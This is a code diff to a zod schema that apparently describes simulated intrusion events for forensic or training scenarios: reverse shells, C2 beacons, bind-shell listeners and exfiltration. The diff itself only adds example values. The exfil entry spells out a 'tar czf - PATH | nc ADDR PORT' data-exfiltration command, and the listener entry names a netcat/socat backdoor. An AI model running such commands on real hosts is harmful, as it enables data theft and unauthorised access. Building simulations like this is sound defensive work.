@@ -94,7 +94,7 @@ const sshFields = {
 };
 
 const sshLogin = z.strictObject({
-  kind: doc(z.literal('ssh-login'), 'An SSH login: sshd [priv] + session processes, socket, utmp, auth.log.'),
+  kind: doc(z.literal('ssh-login'), 'An SSH login: sshd [priv] + session processes, socket, utmp, auth.log.', ['ssh-login']),
   ...common,
   ...sshFields,
   pty: doc(z.boolean().default(true), 'true: a pty and a login shell (-bash on pts/N).', [true]),
@@ -106,7 +106,7 @@ const sshLogin = z.strictObject({
 });
 
 const sshRemoteForward = z.strictObject({
-  kind: doc(z.literal('ssh-remote-forward'), 'An SSH login with -N -R: sshd listens on loopback.'),
+  kind: doc(z.literal('ssh-remote-forward'), 'An SSH login with -N -R: sshd listens on loopback.', ['ssh-remote-forward']),
   ...common,
   ...sshFields,
   listen_port: doc(z.number().int().min(1).max(65535), 'The -R port sshd listens on (127.0.0.1 and ::1).', [
@@ -119,7 +119,7 @@ const sshRemoteForward = z.strictObject({
 });
 
 const reverseShell = z.strictObject({
-  kind: doc(z.literal('reverse-shell'), 'A shell whose stdin/stdout/stderr is a TCP connection out.'),
+  kind: doc(z.literal('reverse-shell'), 'A shell whose stdin/stdout/stderr is a TCP connection out.', ['reverse-shell']),
   ...common,
   parent: doc(refSchema, 'The SSH login (or process) it was started from.', ['login1']),
   flavour: doc(
@@ -141,7 +141,7 @@ const reverseShell = z.strictObject({
 });
 
 const beacon = z.strictObject({
-  kind: doc(z.literal('beacon'), 'Periodic short connections to the C2 (check-ins).'),
+  kind: doc(z.literal('beacon'), 'Periodic short connections to the C2 (check-ins).', ['beacon']),
   ...common,
   user: doc(userNameSchema, 'Who it runs as.', ['deploy']),
   to: hostPort,
@@ -171,7 +171,7 @@ const beacon = z.strictObject({
 });
 
 const exfil = z.strictObject({
-  kind: doc(z.literal('exfil'), 'A bulk transfer out: ESTAB socket with a large Send-Q, counters rising.'),
+  kind: doc(z.literal('exfil'), 'A bulk transfer out: ESTAB socket with a large Send-Q, counters rising.', ['exfil']),
   ...common,
   tool: doc(z.enum(['tar-nc', 'curl', 'scp']).default('tar-nc'), 'tar-nc: tar czf - PATH | nc ADDR PORT.', [
     'tar-nc',
@@ -185,7 +185,7 @@ const exfil = z.strictObject({
 });
 
 const listener = z.strictObject({
-  kind: doc(z.literal('listener'), 'A listening backdoor (a bind shell when `exec` is set).'),
+  kind: doc(z.literal('listener'), 'A listening backdoor (a bind shell when `exec` is set).', ['listener']),
   ...common,
   tool: doc(z.enum(['socat', 'nc', 'python']).default('socat'), 'The listening program.', ['socat']),
   port: doc(z.number().int().min(1).max(65535), 'The port it listens on.', [31337]),
@@ -196,7 +196,7 @@ const listener = z.strictObject({
 });
 
 const firewallChange = z.strictObject({
-  kind: doc(z.literal('firewall-change'), 'An iptables change made on the host (with a sudo trace).'),
+  kind: doc(z.literal('firewall-change'), 'An iptables change made on the host (with a sudo trace).', ['firewall-change']),
   ...common,
   table: doc(z.enum(['filter', 'nat', 'mangle', 'raw']).default('filter'), 'The table.', ['filter']),
   chain: doc(z.string().min(1), 'The chain.', ['INPUT']),
@@ -212,7 +212,7 @@ const firewallChange = z.strictObject({
 });
 
 const processEntry = z.strictObject({
-  kind: doc(z.literal('process'), 'A process start (and optional exit).'),
+  kind: doc(z.literal('process'), 'A process start (and optional exit).', ['process']),
   ...common,
   argv: doc(z.array(z.string()).min(1), 'The argument vector.', [['sleep', '3600']]),
   user: doc(userNameSchema.default('root'), 'Who runs it.', ['deploy']),
@@ -227,7 +227,7 @@ const processEntry = z.strictObject({
 });
 
 const cronJob = z.strictObject({
-  kind: doc(z.literal('cron-job'), 'A crontab entry added at a time (crontab log lines).'),
+  kind: doc(z.literal('cron-job'), 'A crontab entry added at a time (crontab log lines).', ['cron-job']),
   ...common,
   user: doc(userNameSchema.default('root'), 'Whose crontab, or the user field in a cron.d file.', [
     'deploy',
@@ -253,7 +253,7 @@ const logLine = z.strictObject({
 });
 
 const logEntry = z.strictObject({
-  kind: doc(z.literal('log'), 'Arbitrary log lines at a time.'),
+  kind: doc(z.literal('log'), 'Arbitrary log lines at a time.', ['log']),
   ...common,
   lines: doc(z.array(logLine).min(1), 'The lines, in order.', [
     [{ ident: 'kernel', facility: 'kern', message: 'TCP: request_sock_TCP: Possible SYN flooding' }],
